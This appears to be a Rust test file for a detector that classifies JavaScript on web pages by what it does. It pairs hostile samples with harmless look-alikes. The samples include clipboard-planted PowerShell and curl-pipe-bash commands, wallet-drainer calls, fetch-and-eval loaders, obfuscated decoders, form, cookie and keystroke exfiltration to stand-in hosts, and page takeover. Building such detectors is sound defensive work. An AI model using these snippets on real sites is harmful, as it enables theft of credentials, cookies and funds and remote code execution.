//! What code does is found in its many spellings, and not in honest code that resembles it.

use gaccong::page::{
    capability::{Capability, Reading, read},
    script,
};

fn reading(code: &str) -> Reading {
    read(code, &script::layers(code))
}

/// Asserts which pieces of code do something and which do not; names all that are judged wrong.
fn check(capability: Capability, does: &[&str], does_not: &[&str]) {
    let mut wrong = Vec::new();
    for (code, expected) in does
        .iter()
        .map(|it| (it, true))
        .chain(does_not.iter().map(|it| (it, false)))
    {
        let done = reading(code);
        let found = done.does(capability);
        if found.is_some() != expected {
            wrong.push(format!("{code}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{capability:?}\n{}", wrong.join("\n"));
}

#[test]
fn commands_are_copied() {
    check(
        Capability::CopiesCommand,
        &[
            r#"function ok(){navigator.clipboard.writeText("powershell -w hidden -c \"iex (iwr https://a.example/x)\"")}"#,
            r#"b.onclick=function(){navigator.clipboard.writeText(atob("cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgaWV4IChpd3IgaHR0cHM6Ly9hLmV4YW1wbGUveCk="))}"#,
            r#"var t=document.createElement('textarea');t.value='msh'+'ta https://a.example/x.hta';document.body.appendChild(t);t.select();document.execCommand('copy')"#,
            r#"document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','curl -s https://a.example/i | bash');e.preventDefault()})"#,
            r#"const n=navigator,c=n["clip"+"board"];c["write"+"Text"]("cmd /c start /min powershell -enc AAAA")"#,
        ],
        &[
            r#"c.onclick=function(){navigator.clipboard.writeText("12/2026/QĐ-UBND")}"#,
            "nut.onclick=()=>navigator.clipboard.writeText(location.href)",
            r#"navigator.clipboard.writeText("curl https://api.example.gov.vn/v1/tram-do")"#,
            r#"var huongDan="Mở PowerShell rồi gõ http";"#,
        ],
    );
}

#[test]
fn wallets_are_asked() {
    check(
        Capability::AsksWallet,
        &[
            "window.ethereum.request({method:'eth_requestAccounts'}).then(a=>go(a[0]))",
            "const p=window['ether'+'eum'];p.request({method:'eth_sendTransaction',params:[{to:x}]})",
            "window.solana.connect().then(r=>window.solana.signTransaction(t))",
            "tronWeb.trx.sendTransaction(to,amount)",
            "contract.setApprovalForAll(drainer,true)",
        ],
        &[
            "var ethereum='tin';document.title+=ethereum",
            "socket.connect();api.request({method:'GET',url:'/a'})",
            "hub.connect().then(function(){hub.send('eth0')})",
        ],
    );
}

#[test]
fn answers_are_run() {
    check(
        Capability::RunsAnswers,
        &[
            "var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET','/a/lib.php');x.send()",
            "fetch('/a').then(r=>r.text()).then(t=>eval(t))",
            "fetch('/a').then(r=>r.text()).then(eval)",
            "fetch('/a').then(function(r){return r.text()}).then(function(t){new Function(t)()})",
            "(async()=>{const t=await(await fetch('/a')).text();(0,eval)(t)})()",
            "fetch('/a').then(r=>r.text()).then(t=>{var s=document.createElement('script');s.textContent=t;document.head.appendChild(s)})",
            "fetch('/a').then(r=>r.text()).then(t=>{const b=new Blob([t],{type:'text/javascript'});import(URL.createObjectURL(b))})",
            "$.get('/a',function(d){window['ev'+'al'](d)})",
            "var w=new WebSocket('wss://a.example/');w.onmessage=function(e){Function(e.data)()}",
            "var x=new XMLHttpRequest;x.open('GET','/a',false);x.send();var k=x.responseText;setTimeout(k,10)",
            "function run(c){window.eval(c)} fetch('/a').then(r=>r.text()).then(run)",
            "fetch('/a').then(r=>r.text()).then(d=>{let s=atob(d);[].constructor.constructor(s)()})",
        ],
        &[
            "var x=new XMLHttpRequest();x.onload=function(){document.title+=' ('+JSON.parse(x.responseText).n+')'};x.open('GET','/api');x.send()",
            "fetch('/tin-moi.html').then(function(r){return r.text()}).then(function(t){document.getElementById('moi').innerHTML=t})",
            "var d=eval('('+xhr.responseText+')')",
            "fetch('/a').then(r=>r.json()).then(d=>setTimeout(()=>ve(d),100))",
            "setTimeout(cap_nhat,1000);fetch('/a').then(r=>r.text()).then(t=>{hop.textContent=t})",
            "var g=Function('return this')();fetch('/a').then(r=>r.text()).then(t=>{hop.innerText=t})",
        ],
    );
}

#[test]
fn ciphers_are_undone() {
    check(
        Capability::RunsDeciphered,
        &[
            "var d=[1,2,3],s='';for(var i=0;i<d.length;i++)s+=String.fromCharCode(d[i]^23);eval(s)",
            "var k='ab',c=load(),o='';for(i in c)o+=String.fromCharCode(c.charCodeAt(i)^k.charCodeAt(i%2));document.write(o)",
            "eval(el.dataset.x.split('').map(c=>String.fromCharCode(c.charCodeAt(0)-3)).join(''))",
            "var b=Uint8Array.from(a,x=>x^0x5a);new Function(new TextDecoder().decode(b))()",
            "var s=document.createElement('script');s.src=atob(cfg.u);document.head.appendChild(s)",
            "location.href=atob(document.body.dataset.k)",
            "var p=h.match(/../g),t='';p.forEach(x=>t+=String.fromCharCode(parseInt(x,16)-7));location=t",
        ],
        &[
            "var m='';for(i=0;i<a.length;i++)m+=String.fromCharCode(a[i]^7);el.href='mailto:'+m",
            "var crc=0;for(i=0;i<s.length;i++)crc=(crc>>>8)^t[(crc^s.charCodeAt(i))&255];show(crc)",
            "var bytes=Uint8Array.from(atob(x),c=>c.charCodeAt(0));zxing.decode(bytes)",
            "function utf(c){return String.fromCharCode(c>>10|0xD800,c&0x3FF|0xDC00)} eval('1')",
        ],
    );
}

#[test]
fn inputs_are_sent() {
    for (code, capability) in [
        (
            "f.addEventListener('submit',function(e){var d=new FormData(f);navigator.sendBeacon('/a/i.php',d)})",
            Capability::SendsInputs,
        ),
        (
            "p.oninput=()=>fetch('https://a.example/c?v='+encodeURIComponent(p.value))",
            Capability::SendsInputs,
        ),
        (
            "b.onclick=function(){var x=new XMLHttpRequest;x.open('POST','/uploads/a.php');x.send($('#f').serialize())}",
            Capability::SendsInputs,
        ),
        (
            "fetch(`https://a.example/?c=${document.cookie}`)",
            Capability::SendsInputs,
        ),
        (
            "document.forms[0].onsubmit=function(){new Image().src='/p.gif?'+btoa(u.value)}",
            Capability::SendsInPicture,
        ),
        (
            "var i=document.createElement('img');b.onblur=function(){var v=b.value;i.src='/x?'+v}",
            Capability::SendsInPicture,
        ),
        (
            "var k='';document.onkeydown=function(e){k+=e.key;if(k.length>20)fetch('/k',{method:'POST',body:k})}",
            Capability::SendsKeys,
        ),
        (
            "addEventListener('keyup',e=>ws.send(e.key));var ws=new WebSocket('wss://a.example')",
            Capability::SendsKeys,
        ),
    ] {
        check(capability, &[code], &[]);
    }
    check(
        Capability::SendsKeys,
        &[],
        &[
            "document.addEventListener('keydown',function(e){if(e.key==='Enter')fetch('/tim?q='+q.value)})",
            "document.addEventListener('keydown',e=>{if(e.keyCode===27)dong()});fetch('/dem')",
        ],
    );
    check(
        Capability::SendsInPicture,
        &[],
        &[
            "anh.onclick=function(){to.src=nho.src};o.value='1'",
            "new Image().src='/dem?t='+Date.now();a=b.value",
        ],
    );
}

#[test]
fn pages_are_taken() {
    check(
        Capability::TakesPage,
        &[
            "document.write('<html><body><h1>x</h1></body></html>')",
            "document.open();document.write(t);document.close()",
            "document.documentElement.innerHTML='<h1>x</h1>'",
            "document.body.innerHTML=\"<center>x</center>\"",
            "fetch('/a').then(r=>r.text()).then(t=>{document.documentElement.innerHTML=t})",
            "fetch('/a').then(r=>r.text()).then(t=>{document.body.outerHTML=t})",
            "$('body').html('<h1>x</h1>')",
            "window['docu'+'ment']['body']['inner'+'HTML']='<h1>x</h1>'",
            "document.body.replaceChildren(x)",
        ],
        &[
            "var cu=document.body.innerHTML;document.body.innerHTML=phan;window.print();document.body.innerHTML=cu",
            "document.body.innerHTML+='<div>x</div>'",
            "document.body.innerHTML=document.body.innerHTML.replace(/a/g,'b')",
            "var w=window.open('');w.document.write('<html>'+h+'</html>')",
            "document.write('<script src=\"/a.js\"><\\/script>')",
            "document.getElementById('a').innerHTML='<p>x</p>'",
            "document.body.classList.add('js');document.documentElement.className='js'",
        ],
    );
    check(
        Capability::SetsTitle,
        &[
            "setInterval(function(){document.title='Bị chiếm quyền'},900)",
            "top.document.title='Hacked'",
        ],
        &[
            "document.title='('+n+') '+document.title",
            "document.title+=' ('+n+')'",
            "w.document.title='In trang'",
        ],
    );
}

#[test]
fn leavings_know_their_addresses() {
    let to = |code: &str| {
        let leavings = reading(code).leavings;
        leavings
            .into_iter()
            .flat_map(|it| it.to)
            .collect::<Vec<_>>()
            .join(" ")
    };
    for code in [
        "location='https://x9.example/'",
        "window['loc'+'ation']['hr'+'ef']='https://x9.example/'",
        "var u='https://'+'x9.example/';top.location.replace(u)",
        "document.location.assign(atob('aHR0cHM6Ly94OS5leGFtcGxlLw=='))",
        "var a=document.createElement('a');a.href='https://x9.example/';a.click()",
        "f.action='https://x9.example/';f.submit()",
        "var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=https://x9.example/'",
        "navigation.navigate('https://x9.example/')",
        "open('https://x9.example/','_blank')",
    ] {
        assert!(
            to(code).contains("https://x9.example/"),
            "{code}: {}",
            to(code)
        );
    }
    for code in [
        "fetch('https://ads.example/a.js').catch(function(){location.href='/tat-chan-quang-cao'})",
        "location.href=location.href.split('#')[0]",
        "location.replace('?trang='+n)",
    ] {
        let leavings = reading(code).leavings;
        assert!(
            !leavings.is_empty() && leavings.iter().all(|it| it.own),
            "{code}: {leavings:?}"
        );
    }
}

#[test]
fn builds_of_one_piece_of_code_are_alike() {
    let code = |names: [&str; 3], version: &str, more: &str| {
        let [a, b, c] = names;
        format!(
            "!function({a}){{var {b}={{version:'{version}',selector:'.menu-chinh',speed:300}};function {c}({a}){{return {a}.querySelectorAll('[data-tab]').forEach(function({b}){{{b}.addEventListener('click',function(){{{b}.classList.toggle('mo');{a}.setAttribute('aria-expanded','true');localStorage.setItem('tab',{b}.dataset.tab)}})}})}}{c}(document);window.MenuChinh={{init:{c},refresh:function(){{{c}(document)}}}}{more}}}(window)"
        )
    };
    let build = |code: &str| reading(code).build;
    let old = build(&code(["e", "t", "n"], "1.2.0", ""));
    let new = build(&code(["r", "o", "i"], "1.3.0", ";console.log('san sang')"));
    assert!(!old.sketch.is_empty() && old.is_like(&new) && new.is_like(&old));
    let other = build(
        "var _gaq=_gaq||[];_gaq.push(['_setAccount','UA-1']);_gaq.push(['_trackPageview']);(function(){var ga=document.createElement('script');ga.type='text/javascript';ga.async=true;ga.src='//www.example/ga.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s)})();window.dataLayer=[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-1');document.cookie='a=1'",
    );
    assert!(!other.sketch.is_empty() && !old.is_like(&other));
}
